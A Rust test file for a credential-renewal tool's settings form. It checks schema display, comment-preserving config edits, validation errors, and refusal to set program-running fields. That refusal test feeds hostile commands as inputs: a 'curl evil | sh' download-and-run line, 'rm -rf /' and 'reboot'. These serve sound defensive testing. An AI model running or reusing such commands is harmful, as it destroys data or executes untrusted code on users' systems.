//! The settings form: the schema it shows, and what it writes to the
//! config file (comments kept, nothing written when a field is wrong, and no
//! program set or changed from the window).

use std::collections::BTreeMap;

use evergreen_core::config;
use evergreen_core::config::fields;
use evergreen_core::config_edit::*;
use evergreen_core::model::Kind;
use evergreen_core::Error;

#[test]
fn the_files_of_a_credential_are_its_path_fields_and_its_id_equals_path_items() {
    let mut values = BTreeMap::new();
    values.insert("url".into(), "https://certctl.example".into());
    values.insert("api_key_file".into(), "/etc/evergreen/certctl.key".into());
    values.insert(
        "targets".into(),
        "web=/srv/web.pem\nnot a target\napi = ~/api.pem".into(),
    );
    let form = CredentialForm {
        name: "fleet".into(),
        kind: evergreen_core::sources::certctl::KIND,
        values,
    };
    let files = files_of(&form);
    let paths: Vec<_> = files.iter().map(|(_, p)| p.as_str()).collect();
    assert_eq!(
        paths,
        ["/etc/evergreen/certctl.key", "/srv/web.pem", "~/api.pem"],
        "{files:?}"
    );
    assert!(files[1].0.ends_with(": web"), "{files:?}");
}

#[test]
fn the_form_shows_every_field_of_the_table_with_its_default() {
    for schema in kinds() {
        let table = fields::of(schema.kind);
        assert_eq!(schema.fields.len(), table.len(), "{:?}", schema.kind);
        assert_ne!(schema.description, "", "{:?} needs a description", schema.kind);
        for (shown, f) in schema.fields.iter().zip(&table) {
            assert_eq!(shown.key, f.key);
            assert_eq!(shown.runs_program, f.runs_program, "{}", f.key);
            assert_eq!(shown.default.as_deref(), f.default, "{}", f.key);
        }
    }
    let help = |kind: Kind| {
        let k = kinds().into_iter().find(|k| k.kind == kind).unwrap();
        k.fields
            .into_iter()
            .find(|f| f.key == "renew_at_fraction")
            .unwrap()
            .help
    };
    assert!(
        help(evergreen_core::sources::vault_token::KIND).ends_with("Default for this kind: 0.5."),
        "{}",
        help(evergreen_core::sources::vault_token::KIND)
    );
    assert!(
        help(evergreen_core::sources::x509_file::KIND).ends_with("Default for this kind: 0.33."),
        "{}",
        help(evergreen_core::sources::x509_file::KIND)
    );
    let x509 = kinds()
        .into_iter()
        .find(|k| k.kind == evergreen_core::sources::x509_file::KIND)
        .unwrap();
    let enabled = x509.fields.iter().find(|f| f.key == "enabled").unwrap();
    assert_eq!(
        enabled.default.as_deref(),
        Some("true"),
        "a checkbox's default is stated, not guessed"
    );
}

fn form(name: &str, kind: Kind, values: &[(&str, &str)]) -> CredentialForm {
    CredentialForm {
        name: name.into(),
        kind,
        values: values.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
    }
}

#[test]
fn adds_edits_and_deletes_keeping_comments_and_other_credentials() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    std::fs::write(
        &path,
        "# my credentials\n[[credential]]\n# the web server\nname = \"web\"\nkind = \"x509_file\"\npath = \"/certs/web.pem\"\n",
    )
    .unwrap();
    let r = save(
        &path,
        None,
        &form(
            "api",
            evergreen_core::sources::x509_file::KIND,
            &[("path", "/certs/api.pem")],
        ),
    )
    .unwrap();
    assert!(r.ok, "{r:?}");
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.starts_with("# my credentials\n"), "{text}");
    assert!(text.contains("# the web server"), "{text}");
    let cfg = config::parse(&text, &path).unwrap();
    assert_eq!(cfg.credentials.len(), 2);
    // The program is the file's to name; the form keeps it as it is.
    std::fs::write(
        &path,
        text + "renew_command = [\"step\", \"ca\", \"renew\", \"/certs/api.pem\"]\n",
    )
    .unwrap();

    let mut f = read_form(&path, "api").unwrap();
    assert_eq!(f.values["renew_command"], "step\nca\nrenew\n/certs/api.pem");
    f.values.insert("renew_at_fraction".into(), "0.5".into());
    assert!(save(&path, Some("api"), &f).unwrap().ok);
    let f2 = read_form(&path, "api").unwrap();
    assert_eq!(f2.values["renew_at_fraction"], "0.5");

    delete(&path, "api").unwrap();
    let cfg = config::load(&path).unwrap();
    assert_eq!(
        cfg.credentials.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(),
        ["web"]
    );
    assert!(matches!(read_form(&path, "api"), Err(Error::UnknownCredential { .. })));
}

#[test]
fn the_form_can_neither_set_nor_change_a_field_that_runs_a_program() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    let original = "[[credential]]\nname = \"web\"\nkind = \"x509_file\"\npath = \"/certs/web.pem\"\nrenew_command = [\"step\", \"ca\", \"renew\"]\n";
    std::fs::write(&path, original).unwrap();
    let refused = |r: SaveResult, field: &str| {
        assert!(!r.ok);
        let p = r.problems.iter().find(|p| p.field.as_deref() == Some(field)).unwrap();
        assert!(
            p.message
                .contains("runs a program, so the window cannot set or change it"),
            "{p:?}"
        );
        assert!(
            p.message.contains(&format!("edit `{field}` in {}", path.display())),
            "{p:?}"
        );
        assert_eq!(std::fs::read_to_string(&path).unwrap(), original);
    };
    let new = |values: &[(&str, &str)]| {
        save(
            &path,
            None,
            &form("api", evergreen_core::sources::x509_file::KIND, values),
        )
        .unwrap()
    };
    refused(
        new(&[("path", "/a.pem"), ("renew_command", "sh\n-c\ncurl evil | sh")]),
        "renew_command",
    );
    refused(
        new(&[("path", "/a.pem"), ("reload_command", "reboot")]),
        "reload_command",
    );
    refused(new(&[("path", "/a.pem"), ("shell", "true")]), "shell");
    let mut f = read_form(&path, "web").unwrap();
    f.values.insert("renew_command".into(), "rm\n-rf\n/".into());
    refused(save(&path, Some("web"), &f).unwrap(), "renew_command");
    // Unchanged (even with the form's own spacing) it is kept byte for byte.
    let mut f = read_form(&path, "web").unwrap();
    f.values.insert("renew_command".into(), "step\n  ca \nrenew\n\n".into());
    f.values.insert("shell".into(), "false".into());
    f.values.insert("jitter".into(), "0.1".into());
    assert!(save(&path, Some("web"), &f).unwrap().ok);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("renew_command = [\"step\", \"ca\", \"renew\"]"), "{text}");
    assert!(!text.contains("shell"), "{text}");
    let schema = kinds()
        .into_iter()
        .find(|k| k.kind == evergreen_core::sources::x509_file::KIND)
        .unwrap();
    let flagged: Vec<_> = schema
        .fields
        .iter()
        .filter(|f| f.runs_program)
        .map(|f| f.key.as_str())
        .collect();
    assert_eq!(flagged, ["renew_command", "reload_command", "shell"]);
}

#[test]
fn a_bad_form_names_the_field_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    let original = "[[credential]]\nname = \"web\"\nkind = \"x509_file\"\npath = \"/certs/web.pem\"\n";
    std::fs::write(&path, original).unwrap();
    // Caught by the engine's own validator, placed on the field.
    let r = save(
        &path,
        None,
        &form(
            "api",
            evergreen_core::sources::x509_file::KIND,
            &[("path", "/c.pem"), ("renew_at_fraction", "1.5")],
        ),
    )
    .unwrap();
    assert!(!r.ok);
    assert_eq!(r.problems[0].field.as_deref(), Some("renew_at_fraction"), "{r:?}");
    assert!(r.problems[0].message.contains("strictly between 0 and 1"), "{r:?}");
    // A missing required field.
    let r = save(&path, None, &form("api", evergreen_core::sources::x509_file::KIND, &[])).unwrap();
    assert!(!r.ok && r.problems.iter().any(|p| p.message.contains("path")), "{r:?}");
    // A clash of names, a number that is not one, a field of another kind.
    let r = save(
        &path,
        None,
        &form(
            "web",
            evergreen_core::sources::x509_file::KIND,
            &[("path", "/c.pem"), ("jitter", "lots"), ("role", "x")],
        ),
    )
    .unwrap();
    let fields: Vec<_> = r.problems.iter().map(|p| p.field.clone().unwrap_or_default()).collect();
    assert!(
        fields.contains(&"name".to_string())
            && fields.contains(&"jitter".to_string())
            && fields.contains(&"role".to_string()),
        "{r:?}"
    );
    assert_eq!(std::fs::read_to_string(&path).unwrap(), original, "nothing was written");
}
